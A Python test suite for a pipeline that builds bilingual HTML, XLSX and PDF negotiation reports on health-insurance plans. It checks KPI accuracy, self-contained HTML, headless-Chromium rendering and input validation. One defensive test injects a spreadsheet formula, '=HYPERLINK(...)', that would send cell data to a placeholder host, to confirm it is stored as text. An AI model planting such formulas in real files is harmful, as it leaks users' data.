"""The negotiation report: every number is the evaluator's; self-contained; renders in
headless Chromium, in Chinese too."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import zipfile

import numpy as np
import openpyxl
import pytest
from typer.testing import CliRunner

from forecasting.data.publish import write_manifest
from forecasting.forecast import Forecast
from forecasting.scheme.in_force import plan_from_dict
from optimization.evaluate import evaluate_plan
from optimization.solve import scenario_set
from optimization.space import load_space
from pipelines.cli import app
from pipelines.report.document import money
from tests.pipelines.report.pages import Cells

runner = CliRunner()
KPI_ROWS = ("premium_per_capita", "premium_income", "expected_payout", "operating_cost",
            "expected_loss", "loss_p05", "loss_p95", "loss_ratio", "effective_ratio", "prob_loss",
            "cvar95_loss")


def _expected(plan_dirs, forecast_dir):
    """The evaluator's KPIs for today's plan and each proposal, recomputed here."""
    fc = Forecast.load(forecast_dir)
    space = load_space()
    docs = [json.loads((d / "plan.json").read_text()) for d in plan_dirs]
    sq = plan_from_dict("sq", docs[0]["status_quo"]["plan"])
    sc = scenario_set(fc, space, sq)
    plans = [sq, *(plan_from_dict("p", d["plan"]) for d in docs)]
    return [evaluate_plan(p, fc, space.costs, sc) for p in plans]


def test_every_kpi_in_html_and_xlsx_is_the_evaluators(report, plan_dirs, forecast_dir):
    _lang, out = report
    expected = _expected(plan_dirs, forecast_dir)
    parser = Cells("kpis")
    page = (out / "report.html").read_text(encoding="utf-8")
    parser.feed(page)
    assert len(parser.rows) == len(KPI_ROWS)
    for name, values in zip(KPI_ROWS, parser.rows, strict=True):
        want = [getattr(k, name) for k in expected]
        np.testing.assert_allclose(values, want, rtol=1e-9, err_msg=name)
    # the figures people read are the same numbers, formatted
    for k in expected:
        assert money(abs(k.expected_loss)) in page and money(k.expected_payout) in page
    sheet = openpyxl.load_workbook(out / "report.xlsx")["KPIs"]
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    for name, row in zip(KPI_ROWS, rows, strict=True):
        np.testing.assert_allclose([float(v) for v in row[1:]],
                                   [getattr(k, name) for k in expected], rtol=1e-9)
    member = Cells("member")
    member.feed(page)
    for row_values, level in zip(member.rows, (20_000, 50_000, 100_000, 200_000, 500_000),
                                 strict=True):
        np.testing.assert_allclose(row_values,
                                   [k.payout_at[f"{level:g}"] for k in expected], rtol=1e-12)


def test_html_is_self_contained(report):
    page = (report[1] / "report.html").read_text(encoding="utf-8")
    assert not re.search(r"""(src|href)\s*=\s*["']?\s*(https?:)?//""", page)
    assert "<script" not in page and "<link" not in page and "<svg" in page


def test_chinese_report_is_in_chinese(report):
    lang, out = report
    page = (out / "report.html").read_text(encoding="utf-8")
    if lang == "zh":
        assert "城乡居民大病保险" in page and "预期亏损" in page and 'lang="zh-CN"' in page
    else:
        assert not re.search(r"[\u4e00-\u9fff]", page)


def _chromium() -> str | None:
    return shutil.which("chromium") or shutil.which("chromium-browser")


HEADLESS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
            "--disable-background-networking", "--disable-component-update", "--disable-sync",
            "--enable-logging=stderr", "--v=0"]


def test_report_renders_in_headless_chromium(report, plan_dirs, forecast_dir, tmp_path):
    browser = _chromium()
    if browser is None:
        pytest.fail("the render test needs Chromium: `apt-get install chromium` (.ci/run does)")
    lang, out = report
    url = (out / "report.html").resolve().as_uri()
    flags = [browser, *HEADLESS, f"--user-data-dir={tmp_path / 'profile'}"]
    dom = subprocess.run([*flags, "--dump-dom", url], capture_output=True, text=True,
                         timeout=120)
    assert dom.returncode == 0, dom.stderr[-2000:]
    assert "CONSOLE" not in dom.stderr, dom.stderr  # no script or console errors
    expected = _expected(plan_dirs, forecast_dir)
    assert money(expected[0].expected_loss) in dom.stdout
    if lang == "zh":
        assert "关键指标" in dom.stdout
    shot = tmp_path / "page.png"
    result = subprocess.run([*flags, "--window-size=1000,1400", f"--screenshot={shot}", url],
                            capture_output=True, text=True, timeout=120)
    assert result.returncode == 0 and shot.exists(), result.stderr[-2000:]
    from PIL import Image

    pixels = np.asarray(Image.open(shot).convert("L"), dtype=float)
    assert pixels.std() > 10  # not a blank page
    assert (pixels < 128).mean() > 0.005  # there is dark text on it


def test_report_refuses_a_folder_without_plan(tmp_path):
    result = runner.invoke(app, ["report", "--plans", str(tmp_path), "--out",
                                 str(tmp_path / "r")])
    assert result.exit_code == 2
    assert "no manifest.json; expected a complete `ciplan optimize` output" in result.stderr
    assert not (tmp_path / "r").exists()


def _plan_doc() -> dict:
    """A plan.json the report's check accepts: a plan and today's, with every KPI."""
    from pipelines.report.document import REPORT_KPIS

    plan = {"premium_per_capita": 60.0, "deductible": 15000.0, "band_edges": [50000.0],
            "ratios": [0.6, 0.7], "cap": 300000.0}
    kpis = {k: 1.0 for k in REPORT_KPIS} | {"payout_at": {}, "payout_by_age": []}
    return {"objective": "min-loss", "year": 2022, "plan": plan, "kpis": kpis,
            "status_quo": {"plan": plan, "kpis": dict(kpis)}, "term": [{"year": 2022}],
            "provenance": {"history": [], "backtest": {}}}


@pytest.mark.parametrize(("key", "value", "said"), [
    (("kpis", "expected_payout"), "lots", "kpis expected_payout: expected numbers"),
    (("status_quo", "kpis", "loss_ratio"), True, "status_quo.kpis loss_ratio"),
    (("term",), "x", "term is not a list of tables"),
    (("term",), ["x"], "term is not a list of tables"),
    (("shadow_prices",), {"a": 1}, "shadow_prices is not a list of tables"),
    (("solver",), "x", "solver is not a table"),
    (("contract",), [1], "contract is not a table"),
    (("provenance",), [1, 2], "provenance is not a table"),
    (("provenance", "by_age"), "zz", "provenance.by_age is not a list of tables"),
    (("provenance", "history"), [{"year": "x", "payouts": "y"}],
     "provenance.history insured, insured_rate, premium_income, payouts, loss, loss_ratio"),
    (("provenance", "development"), {"year": "x"}, "provenance.development reported"),
    (("provenance", "backtest"), {"claim-frequency": "x"}, "provenance.backtest holds"),
    (("member_impact",), [{"by": "cost_band", "key": "0-5000"}],
     "member_impact claimants, gain, lose, change: expected numbers"),
    (("member_impact",), [{"claimants": 1, "gain": 0, "lose": 1, "change": -5}],
     "member_impact by: expected text"),
    (("shadow_prices",), [{"constraint": "cap", "unit": "CNY of cap", "per_unit": "x"}],
     "shadow_prices per_unit: expected numbers"),
    (("shadow_prices",), [{"constraint": 3, "unit": "CNY of cap", "per_unit": 1.0}],
     "shadow_prices constraint: expected text"),
    (("currency",), 5, "currency: expected the money unit as text; got 5"),
    (("provenance", "currency"), " ", "provenance.currency: expected the money unit"),
])
def test_a_crafted_plan_file_of_the_wrong_shapes_is_one_line(tmp_path, key, value, said):
    """plan.json from someone else (manifest signed again): parts of the types the report
    does not read them as are named in one InputError, before any is rendered (they were
    tracebacks deep in the report)."""
    from forecasting.errors import InputError
    from pipelines.report.document import plan_document

    path = tmp_path / "plan.json"
    doc = _plan_doc()
    path.write_text(json.dumps(doc))
    assert plan_document(path) == doc
    inner = doc
    for k in key[:-1]:
        inner = inner[k]
    inner[key[-1]] = value
    path.write_text(json.dumps(doc))
    with pytest.raises(InputError, match=re.escape(said)):
        plan_document(path)


def test_text_that_looks_like_a_formula_stays_text(plan_dirs, tmp_path):
    """A name in a plan file starting with '=' (from a file sent by the other side) is a
    text cell in the XLSX, never a formula Excel would run."""
    folder = shutil.copytree(plan_dirs[0], tmp_path / "A")
    doc = json.loads((folder / "plan.json").read_text())
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    doc["shadow_prices"][0]["constraint"] = formula
    (folder / "plan.json").write_text(json.dumps(doc))
    write_manifest(folder, "plan", {})
    out = tmp_path / "report"
    result = runner.invoke(app, ["report", "--plans", str(folder), "--out", str(out)])
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(out / "report.xlsx") as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in book.read(n) or b"<f " in book.read(n) for n in sheets)
    values = [c for row in openpyxl.load_workbook(out / "report.xlsx")["Shadow"].values
              for c in row]
    assert formula in values


def test_report_on_plans_of_another_store_writes_and_says_so(plan_dirs, tmp_path,
                                                              monkeypatch):
    monkeypatch.setenv("MLFLOW_TRACKING_URI", f"sqlite:///{tmp_path / 'other.db'}")
    out = tmp_path / "report"
    result = runner.invoke(app, ["report", "--plans", str(plan_dirs[0]), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert (out / "report.html").exists() and (out / "report.xlsx").exists()
    assert "Not logged to MLflow: the runs of plans A are not in the store" in result.stdout


def _numbers_of(page: str) -> list[float]:
    return [float(v) for v in re.findall(r'data-value="([^"]+)"', page)]


def test_verdict_figures_are_plan_json(plan_dirs):
    """The verdict's figures are plan.json's: today's premium and result, the proposal
    that stops the loss at its premium with its chances of a loss before and after
    settlement, and who is paid less (member_impact)."""
    from pipelines.report.document import Report, pct, premium, read_plans

    props = read_plans(plan_dirs)
    docs = {p.key: p.doc for p in props}
    for lang in ("en", "zh"):
        text = " ".join(Report(props, lang).verdict())
        sq = docs["A"]["status_quo"]["kpis"]
        assert premium(sq["premium_per_capita"]) in text
        assert money(abs(sq["expected_loss"])) in text and pct(sq["prob_loss"]) in text
        stop = min((d for d in docs.values() if d["kpis"]["expected_loss"] <= 0),
                   key=lambda d: d["kpis"]["premium_per_capita"], default=None)
        if stop is not None:
            st = stop["kpis"]["settlement"]
            for figure in (premium(stop["kpis"]["premium_per_capita"]),
                           pct(st["prob_loss_before"]), pct(st["prob_loss_after"])):
                assert figure in text, (lang, figure)
        assert not re.search(r"-\d", text), text  # surpluses are surpluses
    # someone paid less: the count and the amount come from member_impact
    b = next(p for p in props if p.key == "B")
    b.doc["member_impact"] = [
        {"by": "cost_band", "key": "0–15,000", "claimants": 10.0, "gain": 0.0, "lose": 0.0,
         "change": 0.0, "change_per_claimant": 0.0},
        {"by": "cost_band", "key": "15,000–50,000", "claimants": 40.0, "gain": 0.0,
         "lose": 37.0, "change": -12_345.0, "change_per_claimant": -308.6},
        {"by": "group", "key": "general", "claimants": 50.0, "gain": 0.0, "lose": 37.0,
         "change": -12_345.0, "change_per_claimant": -246.9}]
    b.doc["kpis"]["expected_loss"] = -1.0  # B stops the loss
    text = " ".join(Report(props, "en").verdict())
    assert "about 37 claimants" in text and "CNY 12,345 less" in text, text


def test_every_workbook_number_is_a_number_of_the_html(report):
    """Every number of the report's tables in the workbook is a data-value of the HTML,
    stored as a number; ranges keep both ends; cost levels and years are numbers."""
    _lang, out = report
    page = (out / "report.html").read_text(encoding="utf-8")
    shown = np.array([v for v in _numbers_of(page) if np.isfinite(v)])
    book = openpyxl.load_workbook(out / "report.xlsx")
    for name in ("KPIs", "HowSure", "Terms", "Contract", "Term", "Member", "ByAge", "History",
                 "Backtest"):
        rows = list(book[name].iter_rows(min_row=2))
        assert rows, name
        for r in rows:
            for c in r[1:]:
                if isinstance(c.value, str):
                    assert not re.fullmatch(r"[-\d.,% ]+", c.value), (name, c.value)
                if isinstance(c.value, int | float) and not (
                        name in ("History", "Term") and c.column == (1 if name == "History"
                                                                   else 2)):
                    assert np.isclose(shown, c.value, rtol=1e-9, atol=1e-9).any(), (
                        name, c.coordinate, c.value)
                    assert c.number_format != "General", (name, c.coordinate)
    terms = {r[0].value: [c.value for c in r[1:]] for r in book["Terms"].iter_rows(min_row=2)}
    ratio_rows = [k for k in terms if k and ("ratio" in k or "比例" in k)]
    assert ratio_rows and all(isinstance(v, int | float) for k in ratio_rows for v in terms[k]
                              if v is not None)
    levels = [r[0].value for r in book["Member"].iter_rows(min_row=2)]
    assert levels == [20_000, 50_000, 100_000, 200_000, 500_000]
    kpis = [r[0].value for r in book["KPIs"].iter_rows(min_row=2)]
    assert len(kpis) == len(KPI_ROWS)  # both ends of the loss range
    years = [r[0].value for r in book["History"].iter_rows(min_row=2)]
    assert all(isinstance(y, int) for y in years[:-1]), years


# what a 大病 negotiator writes (True) and never writes (False) in the Chinese report:
# 人均筹资标准 for the premium, 元 and 万元 (bands 1.5万–5万元, the top band 以上), 结余 for a
# surplus, 例均年度费用 per claimant a year; never 次均 (per visit), 千元 or CNY
CHINESE_TERMS = {"人均筹资标准": True, "元": True, "万元": True, "1.5万–5万元": True,
                 "万元以上": True, "结余": True, "例均年度": True, "普通参保人": True,
                 "次均": False, "千元": False, "CNY": False}


def test_chinese_terms(report):
    """The Chinese report writes as a 大病 negotiator does (CHINESE_TERMS)."""
    lang, out = report
    if lang != "zh":
        return
    page = (out / "report.html").read_text(encoding="utf-8")
    for term, present in CHINESE_TERMS.items():
        assert (term in page) is present, term
    assert re.search(r"\d(\.\d+)?万元", page)


def test_one_report_per_language_on_the_plan_runs(plan_dirs, tmp_path):
    """`ciplan report --lang zh` does not replace the English report on the plan runs."""
    from pipelines.tracking import connect

    for lang in ("en", "zh"):
        args = ["report", "--out", str(tmp_path / lang), "--lang", lang]
        for d in plan_dirs:
            args += ["--plans", str(d)]
        result = runner.invoke(app, args)
        assert result.exit_code == 0, result.output
    run_id = json.loads((plan_dirs[0] / "plan.json").read_text())["run_id"]
    client = connect().MlflowClient()
    for lang in ("en", "zh"):
        names = {a.path for a in client.list_artifacts(run_id, f"report/{lang}")}
        assert f"report/{lang}/report.html" in names, names


def test_the_end_of_run_message_names_the_store_and_how_to_open_it():
    from pipelines.cli import ui_hint

    assert "make ui STORE=sqlite:////tmp/x.db" in ui_hint("sqlite:////tmp/x.db")
    hint = ui_hint("http://127.0.0.1:5005")
    assert "open http://127.0.0.1:5005" in hint and "make ui" not in hint


def test_a_pdf_is_printed_beside_the_html(report):
    """With headless Chromium on the machine, report.pdf (A4, the print styles' page
    breaks) sits beside report.html and the manifest lists it."""
    _lang, out = report
    if _chromium() is None:
        pytest.fail("the PDF test needs Chromium: `apt-get install chromium` (.ci/run does)")
    pdf = (out / "report.pdf").read_bytes()
    assert pdf.startswith(b"%PDF-")
    pages = len(re.findall(rb"/Type\s*/Page[^s]", pdf))
    assert 3 <= pages <= 20, pages
    assert "report.pdf" in (out / "manifest.json").read_text()
